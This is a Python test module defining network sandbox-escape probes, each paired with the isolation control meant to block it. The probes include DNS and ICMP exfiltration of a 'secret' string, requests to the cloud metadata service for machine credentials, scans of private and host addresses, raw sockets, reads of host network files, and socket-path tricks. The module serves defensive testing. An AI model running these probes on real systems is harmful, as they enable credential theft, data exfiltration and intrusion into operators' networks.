"""Attacks by way of the network: names, metadata services, the host's listeners, other calls' targets."""

from __future__ import annotations

import asyncio
import socket
import tempfile
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

from tests.attacks.arena import ABSENT, DENIED, REFUSALS, Attack, Control, Ground, Verdict
from tests.attacks.doors import ALL_NESTS, HOST_NETWORK, KNOCK, host_doors, in_own_nest, two_nests
from tests.attacks.residents import settled
from tests.attacks.world import IN_WORLD

FAMILY = "ways_out"
NO_NETWORK = {"": "a network of its own with nothing but a loopback"}
OWN_FOLDER = {"": "a folder of its own for each call, mounted read-only"}
UNREACHABLE = frozenset({"ENETUNREACH", "EHOSTUNREACH", "ECONNREFUSED", "EADDRNOTAVAIL"})
UNHEARD = UNREACHABLE | REFUSALS | {"TimeoutError", "gaierror"}

ON_HOST = Control(without=("no-network", "hostname"), add=(HOST_NETWORK,))


@asynccontextmanager
async def _names(ground: Ground) -> AsyncIterator[Mapping[str, Any]]:
    """What a sandbox must not learn; the files that a control gets."""
    with tempfile.TemporaryDirectory() as folder:
        hosts, resolver = Path(folder, "hosts"), Path(folder, "resolv.conf")
        hosts.write_text("127.0.0.1 localhost\n10.9.8.7 vault.inside\n")
        resolver.write_text("nameserver 10.9.8.53\n")
        yield {
            "name": socket.gethostname(),
            "known": "vault.inside",
            "resolver": "10.9.8.53",
            "hosts_file": str(hosts),
            "resolver_file": str(resolver),
        }


async def _visit(attack: Attack, ground: Ground) -> Verdict:
    with socket.socket() as door:
        door.bind(("127.0.0.1", 0))
        port = door.getsockname()[1]
    place = replace(ground, values={"port": port})
    async with settled(place, attack.program):
        try:
            async with asyncio.timeout(2):
                _, writer = await asyncio.open_connection("127.0.0.1", port)
                writer.close()
                return Verdict(True, "a visitor came in")
        except ConnectionRefusedError:
            return Verdict(False, "nobody is there for a visitor", True)


_NAMES_AND_ADDRESSES = (
    Attack(
        "asks name servers",
        FAMILY,
        "sending data out in the names that it asks for",
        KNOCK
        + """
query = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7invalid\\0\\0\\1\\0\\1"
def ask(server, kind):
    with socket.socket(socket.AF_INET, kind) as door:
        door.settimeout(2)
        door.connect((server, 53))
        door.send(query)
        door.recv(2)
named = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
for server in ["127.0.0.1", "192.88.99.53", *(name for name in named if "." in name)]:
    step("datagram to " + server, ask, server, socket.SOCK_DGRAM)
    step("stream to " + server, ask, server, socket.SOCK_STREAM)
""",
        IN_WORLD,
        NO_NETWORK,
        refusals=UNHEARD,
    ),
    Attack(
        "resolves a name",
        FAMILY,
        "sending data out in the names that it asks for",
        """
import socket
def ask():
    room = ctypes.create_string_buffer(512)
    if ctypes.CDLL("libresolv.so.2").res_query(b"secret.invalid.example", 1, 1, room, 512) < 0:
        raise OSError(errno.EHOSTUNREACH, "no answer")
step("by libc", ask)
step("by files", socket.getaddrinfo, "secret.invalid.example", 80, socket.AF_INET)
""",
        IN_WORLD,
        NO_NETWORK,
        refusals=UNHEARD,
        wins=("by libc",),
    ),
    Attack(
        "asks the cloud's metadata service",
        FAMILY,
        "the credentials of the machine",
        KNOCK
        + """
step("four", dial, ("169.254.169.254", 80))
step("six", dial, ("fd00:ec2::254", 80), socket.AF_INET6)
""",
        IN_WORLD,
        NO_NETWORK,
        refusals=UNHEARD,
    ),
    Attack(
        "connects to private addresses",
        FAMILY,
        "what listens in the operator's network",
        KNOCK
        + """
step("private", dial, ("10.0.0.1", 80))
step("bridge", dial, ("172.17.0.1", 80))
step("datagram", dial, ("10.0.0.1", 53), socket.AF_INET, socket.SOCK_DGRAM)
""",
        IN_WORLD,
        NO_NETWORK,
        refusals=UNHEARD,
    ),
    Attack(
        "uses link-local addresses",
        FAMILY,
        "a neighbour or a router on the link",
        KNOCK
        + """
for index in range(1, 4):
    step(f"on link {index}", dial, ("fe80::1", 80, 0, index), socket.AF_INET6)
""",
        IN_WORLD,
        NO_NETWORK,
        refusals=UNHEARD | {"EINVAL", "ENXIO"},
        wins=("on link 1",),
    ),
    Attack(
        "calls to everybody",
        FAMILY,
        "whoever listens for a broadcast",
        KNOCK
        + """
def shout(address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as door:
        door.settimeout(1)
        door.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        if address.startswith("224."):
            door.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
        door.sendto(b"knock", (address, port))
        hear(door)
step("broadcast", shout, "127.255.255.255", 80)
step("every link", shout, "255.255.255.255", 80)
step("multicast", shout, "224.0.0.251", 80)
""",
        IN_WORLD,
        NO_NETWORK,
        refusals=UNHEARD,
        wins=("broadcast", "multicast"),
    ),
    Attack(
        "pings",
        FAMILY,
        "sending data out in echo requests",
        """
import socket
def ping(address):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as door:
        door.settimeout(2)
        door.connect((address, 0))
        door.send(b"\\x08\\0\\0\\0\\0\\0\\0\\0secret")
        door.recv(64)
for address in ("192.88.99.53", "169.254.169.254", "10.0.0.1"):
    step(address, ping, address)
""",
        IN_WORLD,
        NO_NETWORK,
        refusals=UNHEARD,
    ),
)

_KINDS = (
    Attack(
        "opens raw sockets",
        FAMILY,
        "packets of its own making",
        """
import socket
def open_socket(*kind):
    socket.socket(*kind).close()
step("packets", open_socket, socket.AF_PACKET, socket.SOCK_RAW, 0x300)
step("icmp", open_socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
step("udp", open_socket, socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
step("icmp6", open_socket, socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
""",
        Control(without=("seccomp", "identity", "no-capabilities")),
        {"": "no capabilities, and the filter of system calls"},
        refusals=REFUSALS,
    ),
    Attack(
        "opens sockets to the kernel",
        FAMILY,
        "changing routes and rules, or a rarely used part of the kernel",
        """
import socket
def open_socket(*kind):
    socket.socket(*kind).close()
step("routes", open_socket, socket.AF_NETLINK, socket.SOCK_RAW, 0)
step("audit of sockets", open_socket, socket.AF_NETLINK, socket.SOCK_RAW, 4)
""",
        Control(without=("seccomp",)),
        {"": "the filter of system calls"},
    ),
)

_HOST = (
    Attack(
        "connects to the host's loopback",
        FAMILY,
        "a service that trusts the machine that it runs on",
        KNOCK
        + """
step("four", dial, ("127.0.0.1", port))
step("six", dial, ("::1", port), socket.AF_INET6)
step("datagram", dial, ("127.0.0.1", port), socket.AF_INET, socket.SOCK_DGRAM)
""",
        ON_HOST,
        NO_NETWORK,
        refusals=UNHEARD,
        host=host_doors,
    ),
    Attack(
        "connects to the host's addresses",
        FAMILY,
        "a service of the machine",
        KNOCK
        + """
for address in four:
    step(address, dial, (address, port))
for address, index in six:
    step(address, dial, (address, port, 0, index), socket.AF_INET6)
""",
        ON_HOST,
        NO_NETWORK,
        refusals=UNHEARD | {"EINVAL"},
        host=host_doors,
        probe=lambda: None if Path("/proc/net/route").read_text().count("\n") > 1 else "no interface but lo",
    ),
    Attack(
        "connects to the host's abstract sockets",
        FAMILY,
        "a service of the machine that no file permission guards",
        KNOCK + "step('abstract', knock, '\\0' + abstract)",
        ON_HOST,
        NO_NETWORK,
        refusals=frozenset({"ECONNREFUSED"}),
        host=host_doors,
    ),
    Attack(
        "sees the host's network",
        FAMILY,
        "who listens, and who is connected",
        """
def see(path, text):
    if text not in open(path).read():
        raise OSError(errno.ENOENT, "not there")
step("listeners", see, "/proc/net/tcp", f":{port:04X} ")
step("sockets", see, "/proc/net/unix", abstract)
for address, *_ in six:
    step("interfaces", see, "/proc/net/if_inet6", "".join(address.split(":")))
    break
""",
        ON_HOST,
        NO_NETWORK,
        refusals=ABSENT | DENIED,
        host=host_doors,
    ),
    Attack(
        "learns the host's names",
        FAMILY,
        "where in the operator's network it is",
        """
def learn(path, text):
    if text not in open(path).read():
        raise OSError(errno.ENOENT, "not there")
step("name", learn, "/proc/sys/kernel/hostname", name)
step("hosts", learn, "/etc/hosts", known)
step("resolver", learn, "/etc/resolv.conf", resolver)
""",
        Control(
            without=("no-network", "hostname"),
            add=(HOST_NETWORK,),
            binds={"/etc/hosts": "hosts_file", "/etc/resolv.conf": "resolver_file"},
        ),
        {"": "names of its own, and files without any"},
        refusals=ABSENT | DENIED,
        host=_names,
    ),
    Attack(
        "listens for visitors",
        FAMILY,
        "orders from outside in the middle of a call",
        "import socket\n"
        "doors = [socket.create_server((address, port, *more), family=family) for address, family, *more in\n"
        "    (('0.0.0.0', socket.AF_INET), ('::', socket.AF_INET6))]\n"
        "wait()\nanswer = 'listening'",
        ON_HOST,
        NO_NETWORK,
        judge=_visit,
    ),
)

_TARGETS = (
    Attack(
        "connects to a target that its call does not have",
        FAMILY,
        "a target of the tool that this call was not given",
        KNOCK
        + """
for name in ("billing", "Billing", "orders-db/../billing", "./billing"):
    step(name, knock, f"/run/toolcrib/{name}/door.sock")
step("by host path", knock, f"{nests}/other/billing/door.sock")
""",
        Control(add=(ALL_NESTS,), says="every call's folder is mounted"),
        OWN_FOLDER,
        refusals=ABSENT | DENIED,
        wins=("by host path",),
        host=two_nests,
        judge=in_own_nest,
    ),
    Attack(
        "changes its socket folder",
        FAMILY,
        "a socket of its own where another process looks for a target's",
        """
import socket
for name, folder in (("given", "/run/toolcrib/orders-db"), ("by host path", nests + "/own/orders-db")):
    step(name + ": add", write, folder + "/new", "text")
    step(name + ": bind", socket.socket(socket.AF_UNIX).bind, folder + "/false.sock")
    step(name + ": rename", os.rename, folder + "/door.sock", folder + "/moved.sock")
""",
        Control(add=(ALL_NESTS,), says="every call's folder is mounted, writable"),
        OWN_FOLDER,
        refusals=ABSENT | DENIED | {"EROFS"},
        wins=("by host path: add", "by host path: bind", "by host path: rename"),
        host=two_nests,
        judge=in_own_nest,
    ),
)


ATTACKS: tuple[Attack, ...] = (*_NAMES_AND_ADDRESSES, *_KINDS, *_HOST, *_TARGETS)
